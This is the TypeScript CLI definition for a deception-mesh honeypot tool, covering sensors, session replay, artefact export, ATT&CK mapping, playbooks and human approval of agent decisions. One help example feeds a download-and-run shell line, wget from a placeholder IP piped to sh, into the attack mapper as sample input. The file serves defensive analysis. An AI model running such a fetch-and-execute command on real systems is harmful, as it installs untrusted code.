/**
 * The `cerberus` command. Data goes to stdout, messages to stderr; exit codes are those of the error catalogue
 * (0 ok, 1 failure, 2 usage, 3 bad configuration, 4 not authorised, 5 not found, 6 unavailable).
 * Every command is loaded when it is called, so `cerberus attack map` starts no database driver.
 */
import { CerberusError, ERROR_CATALOGUE } from '@cerberusmesh/contracts';
import { Command, CommanderError } from 'commander';
import { declareAccessCommands } from './commands/declare-access.ts';
import { declareFleetCommands } from './commands/declare-fleet.ts';
import { declareExchangeCommands, declareSharingCommands } from './commands/declare-sharing.ts';
import { examples, lazily, withConfiguration, withOutput } from './declare.ts';
import { visible } from './output.ts';

const program = new Command('cerberus')
  .description('CerberusMesh: a deception mesh that turns attacks into explained decisions')
  .showHelpAfterError('(see cerberus --help)')
  .configureHelp({ sortSubcommands: false })
  .exitOverride();

function group(name: string, description: string): Command {
  return program.command(name).description(description);
}

examples(
  withConfiguration(program.command('up'))
    .description('start everything on this machine: database, hub, console, traps')
    .option('--port <number>', 'port of the API and the console (0: any free one)')
    .action(lazily(() => import('./commands/up.ts'))),
  'cerberus up',
  'cerberus up --data-dir ./data --port 0',
);

const sensor = group('sensor', 'run a sensor that reports to a hub elsewhere, enrol one, or look at those there are');
examples(
  withConfiguration(sensor.command('run', { isDefault: true }))
    .description('run the traps of this machine and report to a hub')
    .requiredOption('--hub <url>', 'address of the hub, https://...')
    .requiredOption('--key-file <file>', 'file with the sensor key from `cerberus sensor enrol`')
    .option('--ca-file <file>', 'certificate authority of the hub, PEM')
    .option('--trap <kind=port...>', 'only these traps, whatever the configuration says', [])
    .action(lazily(() => import('./commands/sensor/run.ts'))),
  'cerberus sensor --hub https://hub.example.org:7071 --key-file /etc/cerberus/sensor.key',
  'cerberus sensor --hub https://hub.example.org:7071 --key-file sensor.key --trap ssh=22 http=80',
);
examples(
  withOutput(withConfiguration(sensor.command('enrol <id>')))
    .description('make a key for a sensor elsewhere (on the hub machine)')
    .action(lazily(() => import('./commands/sensor/enrol.ts'))),
  'cerberus sensor enrol branch-office',
);
examples(
  withOutput(withConfiguration(sensor.command('list')))
    .description('the sensors that ever reported, and whether they are there')
    .action(lazily(() => import('./commands/sensor/list.ts'))),
  'cerberus sensor list',
);
examples(
  withOutput(withConfiguration(sensor.command('show <id>')))
    .description('one sensor: its traps, and the orders that it was given')
    .action(lazily(() => import('./commands/sensor/show.ts'))),
  'cerberus sensor show local -o json',
);
examples(
  withOutput(
    withConfiguration(sensor.command('withdraw <order>'))
      .description('take back what an order did on its sensor')
      .option('--wait <seconds>', 'how long to wait for the sensor to do it', '10'),
  ).action(lazily(() => import('./commands/sensor/withdraw.ts'))),
  'cerberus sensor withdraw 0190a3c2-1111-7abc-8def-0123456789ab',
);

examples(
  withConfiguration(program.command('hub'))
    .description('run the hub without traps')
    .option('--port <number>', 'port of the API and the console (0: any free one)')
    .action(lazily(() => import('./commands/hub.ts'))),
  'cerberus hub --data-dir /var/lib/cerberusmesh',
);

examples(
  withOutput(withConfiguration(program.command('import <file...>')))
    .description('run foreign logs through the whole pipeline, with a running hub or without one; - is stdin')
    .option('--format <name>', 'auto or cowrie', 'auto')
    .option('--reject-file <file>', 'where rejected lines go (default: below the data directory)')
    .action(lazily(() => import('./commands/import.ts'))),
  'cerberus import /var/log/cowrie/cowrie.json*',
  'zcat old.json.gz | cerberus import - --format cowrie -o json',
);

examples(
  group('attack', 'MITRE ATT&CK')
    .command('map')
    .description('map commands from stdin to techniques, one command line or session a line; needs no hub')
    .option('--jsonl', 'lines are {"id","statements":[...]}')
    .action(lazily(() => import('./commands/attack/map.ts'))),
  "echo 'wget http://192.0.2.1/x -O- | sh' | cerberus attack map",
  'cerberus attack map --jsonl < sessions.jsonl > mapped.jsonl',
);

examples(
  withOutput(withConfiguration(group('cvss', 'severity by CVSS 3.1 and 4.0').command('score <type> <value>')))
    .description('vector and score of a technique, command, credential, url, domain, ip, file, public-key or vector')
    .option('--model', 'ask the language model of the configuration too (it then sees the value)')
    .action(lazily(() => import('./commands/cvss/score.ts'))),
  'cerberus cvss score technique T1110.001',
  'cerberus cvss score credential root:admin -o json',
  'cerberus cvss score ip 203.0.113.7 --model',
  'cerberus cvss score vector CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
);

const session = group('session', 'look at sessions');
examples(
  withOutput(withConfiguration(session.command('list')))
    .description('newest first')
    .option('--limit <number>', 'how many', '50')
    .option('--source <address>', 'only of this source address')
    .option('--technique <id>', 'only with this technique')
    .option('--filter <filter>', "only what passes, e.g. 'trap:ssh score>=0.7 -country:US' (docs/filters.md)")
    .option('--sort <key>', 'opened, seen, score, duration, anomaly, events, commands, ...; -key: descending')
    .option('--min-score <number>', 'only with at least this score, 0-1')
    .option('--stage <stage>', 'only that got this far: contact, access, discovery, execution, installation, ...')
    .option('--country <code>', 'only from this country (two letters, or unknown)')
    .option('--client <name>', 'only of this client: its HASSH, or its software as it named itself')
    .option('--username <name>', 'only where this user was let in')
    .option('--tried-username <name>', 'only where this user name was tried')
    .option('--tried-secret <text>', 'only where this password was tried')
    .option('--command <text>', 'only where exactly this command line was entered')
    .option('--open', 'only those still open')
    .action(lazily(() => import('./commands/session/list.ts'))),
  'cerberus session list --min-score 0.7',
  "cerberus session list --filter 'command~wget stage>=installation -source:10.0.0.0/8' --sort -score",
  "cerberus session list --tried-username root --command 'uname -a'",
);
examples(
  withOutput(withConfiguration(session.command('show <id>')))
    .description('everything about one session: commands, techniques with evidence, score, decisions')
    .action(lazily(() => import('./commands/session/show.ts'))),
  'cerberus session show 0198f3a0',
);
examples(
  withConfiguration(session.command('replay <id>'))
    .description('play the recorded terminal in this terminal')
    .option('--speed <factor>', 'times faster', '1')
    .option('--idle <seconds>', 'longest pause to keep', '2')
    .option('--transcript', 'print it as plain text at once: what stood on each line, without colours')
    .action(lazily(() => import('./commands/session/replay.ts'))),
  'cerberus session replay 0198f3a0 --speed 4',
  'cerberus session replay 0198f3a0 --transcript | less',
);
examples(
  withConfiguration(session.command('export <id>'))
    .description('every event of one session as NDJSON, or its recorded terminal byte for byte')
    .option('--stream <name>', 'events, recording (asciicast v2), or the bytes of its input or output', 'events')
    .option('--pseudonymise', 'replace source and destination addresses of events, always by the same ones')
    .action(lazily(() => import('./commands/session/export.ts'))),
  'cerberus session export 0198f3a0 > session.ndjson',
  'cerberus session export 0198f3a0 --stream input > typed.bin',
  'cerberus session export 0198f3a0 --pseudonymise > to-share.ndjson',
);

const artefact = group('artefact', 'captured files');
examples(
  withOutput(withConfiguration(artefact.command('list')))
    .description('what was uploaded, downloaded or fetched, last seen first')
    .option('--limit <number>', 'how many', '50')
    .option('--session <id>', 'only of this session')
    .option('--source <address>', 'only of this source address')
    .option('--media-type <type>', 'only of this type, as guessed from the first bytes')
    .option('--kept', 'only those whose bytes are here')
    .action(lazily(() => import('./commands/artefact/list.ts'))),
  'cerberus artefact list --media-type application/x-elf',
  'cerberus artefact list --session 0198f3a0 -o json',
);
examples(
  withConfiguration(artefact.command('export <sha256>'))
    .description('write one captured file as a zip, encrypted with AES-256 and the password "infected"')
    .option('--to <file>', 'where to; - is stdout (default: <sha256>.zip in the working directory)')
    .action(lazily(() => import('./commands/artefact/export.ts'))),
  'cerberus artefact export 9f86d081',
  'cerberus artefact export 9f86d081 --to sample.zip && 7z x -pinfected sample.zip',
);

examples(
  withOutput(withConfiguration(group('attacker', 'look at attackers').command('show <address>')))
    .description('one source over time: visits, what ties it to others, what providers say of it')
    .action(lazily(() => import('./commands/attacker/show.ts'))),
  'cerberus attacker show 198.51.100.7',
  'cerberus attacker show 198.51.100.7 -o json',
);

const retention = group('retention', 'how long data is kept');
examples(
  withOutput(withConfiguration(retention.command('show')))
    .description('the policy, what is held back from it, and what the last runs removed')
    .action(lazily(() => import('./commands/retention/show.ts'))),
  'cerberus retention show',
);
examples(
  withOutput(withConfiguration(retention.command('run')))
    .description('remove now what the policy no longer keeps (a running hub does so every six hours)')
    .option('--dry-run', 'only say what would be removed')
    .action(lazily(() => import('./commands/retention/run.ts'))),
  'cerberus retention run --dry-run',
);
examples(
  withOutput(withConfiguration(retention.command('hold <subject>')))
    .description('keep what a source, session or artefact left, whatever the policy says: kind:value, or everything')
    .requiredOption('--reason <text>', 'why')
    .action(lazily(() => import('./commands/retention/hold.ts'))),
  "cerberus retention hold source:198.51.100.7 --reason 'case 12/2026'",
);
examples(
  withConfiguration(retention.command('release <id>'))
    .description('end a hold')
    .action(lazily(() => import('./commands/retention/release.ts'))),
  'cerberus retention release 3',
);

const decision = group('decision', 'look at what the agent decided, and say what becomes of it');
examples(
  withOutput(withConfiguration(decision.command('list')))
    .description('newest first')
    .option('--limit <number>', 'how many', '50')
    .option('--kind <kind>', 'monitor, rotate_key, launch_decoy, insert_trap or escalate')
    .option('--filter <filter>', "only what passes, e.g. 'kind:escalate at>=now-24h' (docs/filters.md)")
    .action(lazily(() => import('./commands/decision/list.ts'))),
  'cerberus decision list --kind escalate',
);
examples(
  withOutput(withConfiguration(decision.command('why <id>')))
    .description('reasons, evidence, alternatives, what policy says, what was done, and what would have changed it')
    .action(lazily(() => import('./commands/decision/why.ts'))),
  'cerberus decision why 5e1b2c',
);
for (const [verb, description, load] of [
  ['approve', 'say yes: it is done as soon as enough people have', () => import('./commands/decision/approve.ts')],
  ['reject', 'say no: it is not done', () => import('./commands/decision/reject.ts')],
  ['undo', 'have taken back what was done', () => import('./commands/decision/undo.ts')],
] as const) {
  examples(
    withOutput(withConfiguration(decision.command(`${verb} <id>`)))
      .description(description)
      .option('--comment <text>', 'why, for those who read it later', '')
      .option('--wait <seconds>', 'how long to wait for a running hub to do it', '10')
      .action(lazily(load)),
    `cerberus decision ${verb} 5e1b2c`,
  );
}
examples(
  withOutput(withConfiguration(decision.command('label <id> <label>')))
    .description('note whether it was right: correct or false_positive')
    .option('--note <text>', 'why', '')
    .action(lazily(() => import('./commands/decision/label.ts'))),
  "cerberus decision label 5e1b2c false_positive --note 'our own scanner'",
);

const model = group('model', 'anomaly models: train, evaluate, promote');
examples(
  withOutput(withConfiguration(model.command('train <kind>')))
    .description('train an isolation-forest, autoencoder or lstm on the sessions of the log')
    .option('--name <name>', 'what it is called (default: its kind)')
    .option('--seed <number>', 'same seed, parameters and sessions, same model', '1')
    .option('--sessions <number>', 'the newest so many ended sessions', '20000')
    .option('--set <name=value...>', 'a parameter of the model, as trees=200', [])
    .option('--promote', 'let it score sessions at once')
    .action(lazily(() => import('./commands/model/train.ts'))),
  'cerberus model train isolation-forest',
  'cerberus model train isolation-forest --set trees=200 sampleRows=512 --seed 7',
);
examples(
  withOutput(withConfiguration(model.command('evaluate <model>')))
    .description(
      'score the sessions of the log with a model: how many stand out, drift, the least ordinary with reasons',
    )
    .option('--sessions <number>', 'the newest so many ended sessions', '20000')
    .option('--limit <number>', 'how many of the least ordinary', '20')
    .option(
      '--labels <file>',
      'what people said, {"sessionId","anomalous"} a line, instead of the labels given in the console',
    )
    .action(lazily(() => import('./commands/model/evaluate.ts'))),
  'cerberus model evaluate isolation-forest@3 -o json',
);
examples(
  withOutput(withConfiguration(model.command('list')))
    .description('newest first')
    .option('--kind <kind>', 'only of this kind')
    .option('--promoted', 'only those that score sessions')
    .action(lazily(() => import('./commands/model/list.ts'))),
  'cerberus model list --promoted',
);
examples(
  withOutput(withConfiguration(model.command('promote <model>')))
    .description('let a model score sessions, instead of the one of its kind that does')
    .action(lazily(() => import('./commands/model/promote.ts'))),
  'cerberus model promote isolation-forest@3',
);

examples(
  withOutput(withConfiguration(group('trap', 'look at traps').command('list')))
    .description('what listens where')
    .action(lazily(() => import('./commands/trap/list.ts'))),
  'cerberus trap list',
);

declareFleetCommands(program);
declareAccessCommands(program);

examples(
  withConfiguration(program.command('replay'))
    .description('derive everything again from the event log (the hub must be stopped)')
    .requiredOption('--rebuild', 'sessions, attackers, detections and decisions are emptied and made anew')
    .action(lazily(() => import('./commands/replay.ts'))),
  'cerberus replay --rebuild',
);

declareSharingCommands(program);

const config = group('config', 'look at the configuration');
withConfiguration(config.command('show'))
  .description('the configuration in force, defaults included, secrets hidden')
  .action(lazily(() => import('./commands/config/show.ts')));
withConfiguration(config.command('validate'))
  .description('check it and say what is wrong where')
  .action(lazily(() => import('./commands/config/validate.ts')));
config
  .command('schema')
  .description('JSON Schema of cerberus.yaml')
  .action(lazily(() => import('./commands/config/schema.ts')));

const playbook = group('playbook', 'SOAR procedures in YAML');
examples(
  playbook
    .command('validate <file...>')
    .description('check playbooks whole: shape, names, cycles, templates, with line and column')
    .option('-o, --output <format>', 'table or json', 'table')
    .action(lazily(() => import('./commands/playbook/validate.ts'))),
  'cerberus playbook validate playbooks/*.yaml',
);
examples(
  playbook
    .command('test <file...>')
    .description('run the tests inside playbooks: mocked results, a clock that jumps, nothing is called')
    .option('-o, --output <format>', 'table or json', 'table')
    .action(lazily(() => import('./commands/playbook/test.ts'))),
  'cerberus playbook test examples/playbooks/*.yaml',
);
examples(
  playbook
    .command('graph <file>')
    .description('draw the steps as a Mermaid flowchart')
    .action(lazily(() => import('./commands/playbook/graph.ts'))),
  'cerberus playbook graph examples/playbooks/returning-attacker.yaml',
);
examples(
  withOutput(withConfiguration(playbook.command('list')))
    .description('what is published: the newest version of each')
    .action(lazily(() => import('./commands/playbook/list.ts'))),
  'cerberus playbook list',
);
examples(
  withOutput(withConfiguration(playbook.command('publish <file...>')))
    .description('make playbooks known to the hub; a version never changes once it is published')
    .action(lazily(() => import('./commands/playbook/publish.ts'))),
  'cerberus playbook publish examples/playbooks/*.yaml',
);
examples(
  withOutput(withConfiguration(playbook.command('run <id>')))
    .description('start a run of a published playbook')
    .option('--input <name=value...>', 'inputs; values are JSON where they are JSON')
    .option('--dry-run', 'do nothing, say what would be done')
    .action(lazily(() => import('./commands/playbook/run.ts'))),
  "cerberus playbook run returning-attacker --input 'address=198.51.100.7' --dry-run",
);

examples(
  withConfiguration(playbook.command('disable <id>'))
    .description('switch a playbook off: nothing starts it, runs under way go on')
    .action(lazily(() => import('./commands/playbook/disable.ts'))),
  'cerberus playbook disable returning-attacker',
);
examples(
  withConfiguration(playbook.command('enable <id>'))
    .description('switch it on again')
    .action(lazily(() => import('./commands/playbook/enable.ts'))),
  'cerberus playbook enable returning-attacker',
);
declareExchangeCommands(playbook);

const run = group('run', 'runs of playbooks');
examples(
  withOutput(withConfiguration(run.command('list')))
    .description('newest first')
    .option('--limit <number>', 'how many', '50')
    .option('--state <state>', 'only queued, running, waiting, paused, succeeded, failed or cancelled ones')
    .option('--playbook <id>', 'only of this playbook')
    .action(lazily(() => import('./commands/run/list.ts'))),
  'cerberus run list --state waiting',
);
examples(
  withOutput(withConfiguration(run.command('show <id>')))
    .description('its steps, what it asks, and what nobody knows of it')
    .action(lazily(() => import('./commands/run/show.ts'))),
  'cerberus run show 0198f3a0-0000-7000-8000-000000000001',
);
examples(
  withConfiguration(run.command('answer <id> <step> <answer>'))
    .description('approved or rejected, to a step that asks')
    .option('--comment <text>', 'why')
    .action(lazily(() => import('./commands/run/answer.ts'))),
  'cerberus run answer 0198f3a0-0000-7000-8000-000000000001 block approved',
);
examples(
  withConfiguration(run.command('resolve <id> <key>'))
    .description('what a call came to that a crash interrupted')
    .option('--result <json>', 'it worked and gave this')
    .option('--error <text>', 'it did not work')
    .action(lazily(() => import('./commands/run/resolve.ts'))),
  "cerberus run resolve 0198f3a0-0000-7000-8000-000000000001 call:pay/0/0/1 --result '{}'",
);
examples(
  withConfiguration(run.command('cancel <id>'))
    .description('end it: nothing new is begun')
    .action(lazily(() => import('./commands/run/cancel.ts'))),
  'cerberus run cancel 0198f3a0-0000-7000-8000-000000000001',
);
examples(
  withOutput(withConfiguration(run.command('rerun <id>')))
    .description('a new run that keeps what worked')
    .option('--from <step>', 'from this step on (default: from whatever has not succeeded)')
    .action(lazily(() => import('./commands/run/rerun.ts'))),
  'cerberus run rerun 0198f3a0-0000-7000-8000-000000000001 --from notify',
);

withOutput(withConfiguration(program.command('doctor')))
  .description('check this machine and this installation, and say what to do')
  .action(lazily(() => import('./commands/doctor.ts')));

examples(
  withConfiguration(program.command('demo'))
    .description('attack the traps of the running instance on this machine, so that the console comes alive')
    .option('--sessions <number>', 'how many sessions', '24')
    .option('--seed <number>', 'same seed, same attackers', '1')
    .option('--seconds <number>', 'spread over this many seconds', '45')
    .action(lazily(() => import('./commands/demo.ts'))),
  'cerberus demo',
);

program
  .command('version')
  .description('version of everything in use')
  .action(lazily(() => import('./commands/version.ts')));

process.stdout.on('error', (error) => {
  // `cerberus session list | head`: the reader has seen enough.
  if ('code' in error && error.code === 'EPIPE') process.exit(0);
  throw error;
});

try {
  await program.parseAsync(process.argv);
} catch (error) {
  if (error instanceof CommanderError) {
    process.exitCode = error.exitCode === 0 ? 0 : 2;
  } else if (error instanceof CerberusError) {
    process.stderr.write(`cerberus: ${error.message.split('\n').map(visible).join('\n          ')}\n`);
    process.exitCode = ERROR_CATALOGUE[error.code].exitCode;
  } else {
    process.stderr.write(`cerberus: ${visible(error instanceof Error ? error.message : String(error))}\n`);
    if (process.env.CERBERUS_LOG_LEVEL === 'debug' && error instanceof Error) process.stderr.write(`${error.stack}\n`);
    process.exitCode = 1;
  }
}
